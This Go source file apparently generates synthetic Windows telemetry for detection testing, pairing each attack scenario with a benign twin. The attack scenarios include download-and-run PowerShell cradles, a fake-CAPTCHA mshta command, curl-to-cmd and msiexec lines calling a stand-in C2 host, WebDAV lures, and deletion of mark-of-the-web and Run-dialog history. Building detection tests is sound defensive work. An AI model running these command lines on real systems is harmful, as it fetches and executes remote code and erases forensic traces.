package main

import "time"

// What begins with a link or a pasted command.
var linkShapes = []shape{
	{name: "mark of the web removed", does: func(s *scene) {
		exe, _ := s.fetched(0, "Ledger_%d.exe", "Manifest_%d.exe", "Portfolio_%d.exe")
		s.host.deleted(s.shell, s.later(2*time.Minute), exe+":Zone.Identifier", s.rng.IntN(2) == 0)
		run := s.run(s.shell, unknown(exe), `"`+exe+`" `, s.user, s.later(160*time.Second))
		s.c.tells("mark-removed-then-run", run.twins()...)
		s.c.may(ruleDownload, ruleLanding, "t1204-001-risky-download-then-run")
	}, twin: func(s *scene) {
		exe, _ := s.fetched(0, "VendorTool_%d.exe")
		s.host.deleted(s.shell, s.later(9*time.Minute), exe+":Zone.Identifier", true)
		run := s.run(s.shell, house(exe), `"`+exe+`" `, s.user, s.later(10*time.Minute))
		s.c.tells("mark-removed-then-run-known", run.twins()...)
		s.c.may(ruleLanding)
	}},
	{name: "paste and run: PowerShell", does: func(s *scene) {
		words := pick(s.rng, []string{"iwr https://" + c2Host + "/x | iex",
			"iex (irm '" + c2Host + "/c')", "$w=New-Object Net.WebClient;iex $w.DownloadString('https://" +
				c2Host + "/p')"})
		command := `powershell -w h -nop -c "` + words + `"`
		s.setValue(s.shell, s.later(0), `HKU\`+s.user.sid+
			`\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\b`, command+`\1`)
		run := s.does(s.shell, "powershell.exe", command, 40*time.Millisecond)
		s.c.tells("paste-and-run", run.twins()...)
		s.c.tells("run-dialog-history", s.c.events...)
	}, twin: func(s *scene) {
		for i, typed := range []string{`\\files.corp.example\team`, "notepad", "services.msc", "cmd", "powershell"} {
			s.setValue(s.shell, s.later(time.Duration(i)*time.Minute), `HKU\`+s.user.sid+
				`\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\`+string(rune('c'+i)), typed+`\1`)
		}
		s.does(s.shell, "powershell.exe", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" `, 4*time.Minute)
	}},
	{name: "paste and run: a tool of Windows", does: func(s *scene) {
		command := pick(s.rng, []string{`mshta https://` + c2Host +
			`/v # I am not a robot: reCAPTCHA Verification ID: 4471`,
			`conhost --headless cmd /c curl -s http://` + c2Host + `/k | cmd`,
			`msiexec /i https://` + c2Host + `/a.msi /qn`})
		name := map[byte]string{'s': "mshta.exe", 'o': "conhost.exe"}[command[1]]
		if command[2] == 'i' {
			name = "msiexec.exe"
		}
		run := s.does(s.shell, name, command, 0)
		s.host.registry(run.process, s.later(5*time.Second), 12, "DeleteKey", `HKU\`+s.user.sid+
			`\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU`)
		s.c.tells("paste-and-run", run.twins()...)
		s.c.may("run-history-deleted", "command-line-cradle")
	}, twin: func(s *scene) {
		s.does(s.shell, "msiexec.exe",
			`"C:\Windows\System32\msiexec.exe" /i "\\files.corp.example\software\reader.msi" `, 0)
		s.does(s.shell, "cmd.exe", `"C:\Windows\System32\cmd.exe" /c "C:\Program Files\House\menu.cmd"`, time.Minute)
		s.does(s.shell, "mmc.exe", `"C:\Windows\System32\mmc.exe" "C:\Windows\system32\services.msc" `, 2*time.Minute)
	}},
	{name: "search on a share in the web", does: func(s *scene) {
		run := s.does(s.b, "explorer.exe",
			`"C:\Windows\explorer.exe" "search-ms:query=`+s.named("Invoice%d", "Offer%d")+
				`&crumb=location:\\`+c2Host+`@SSL\DavWWWRoot\d&displayname=Downloads"`, 0)
		s.c.tells("search-link", run.twins()...)
		s.c.may(ruleAddress, "webdav-run")
	}, twin: func(s *scene) {
		s.does(s.shell, "explorer.exe",
			`"C:\Windows\explorer.exe" "search-ms:displayname=Search&crumb=location:C:\Users\`+
				s.user.name+`\Documents"`, 0)
	}},
	{name: "program on a share in the web", does: func(s *scene) {
		exe := `\\` + c2Host + `@SSL\DavWWWRoot\` + s.named("doc%d", "view%d") + `.exe`
		run := s.run(s.shell, unknown(exe), `"`+exe+`"`, s.user, s.at)
		s.c.tells("webdav-run", run.twins()...)
	}, twin: func(s *scene) {
		exe := `\\files.corp.example\apps\` + s.named("timesheet%d") + `.exe`
		s.run(s.shell, house(exe), `"`+exe+`"`, s.user, s.at)
	}},
	{name: "browser as downloader", does: func(s *scene) {
		ws := s.does(s.shell, "wscript.exe", `"C:\Windows\System32\WScript.exe" "C:\Program Files\House\menu.vbs"`, 0)
		run := s.run(ws.process, prog(chromeEx), `"`+chromeEx+`" --headless --dump-dom https://`+c2Host+
			`/t.txt`, s.user,
			s.later(time.Second))
		s.c.tells("browser-as-downloader", run.twins()...)
	}, twin: func(s *scene) {
		s.run(s.outlook, prog(edgeEx), `"`+edgeEx+`" --single-argument https://news.example/story`, s.user, s.at)
		s.run(s.shell, prog(edgeEx), `"`+edgeEx+`" --headless --print-to-pdf=C:\Users\`+s.user.name+
			`\Documents\r.pdf https://intranet.corp.example/report`, s.user, s.later(time.Minute))
	}},
	{name: "remote desktop file from mail", does: func(s *scene) {
		run := s.does(s.shell, "mstsc.exe", `"C:\Windows\System32\mstsc.exe" "`+s.user.home()+`Downloads\`+
			s.named("zero-trust-%d.rdp", "compliance_%d.rdp")+`"`, 0)
		s.c.tells("rdp-file-opened", run.twins()...)
	}, twin: func(s *scene) {
		s.does(s.shell, "mstsc.exe", `"C:\Windows\System32\mstsc.exe" /v:srv-mgmt-01`, 0)
		s.does(s.shell, "mstsc.exe", `"C:\Windows\System32\mstsc.exe" "`+s.user.home()+`Documents\farm.rdp"`,
			time.Minute)
	}},
	{name: "script block in parts", does: func(s *scene) {
		ps := s.does(s.shell, "powershell.exe",
			`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -File C:\t\`+
				s.named("u%d.ps1"), 0)
		parts := s.parts(ps.process, s.later(time.Second), "$u = 'https://"+c2Host+"/s'\r\n$w = New-Object Net.Web",
			"Client\r\n$t = $w.Download", "String($u)\r\nInvoke-Exp", "ression $t\r\n")
		s.c.tells(ruleScriptCradle, parts...)
	}, twin: func(s *scene) {
		ps := s.does(s.shell, "powershell.exe",
			`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -File C:\t\`+
				s.named("report%d.ps1"), 0)
		s.parts(ps.process, s.later(time.Second), "$u = 'https://intranet.corp.example/stock.csv'\r\nInvoke-WebReq",
			"uest $u -OutFile C:\\t\\stock.csv\r\n", "Import-Csv C:\\t\\stock.csv | Group-Object Site\r\n")
	}},
}
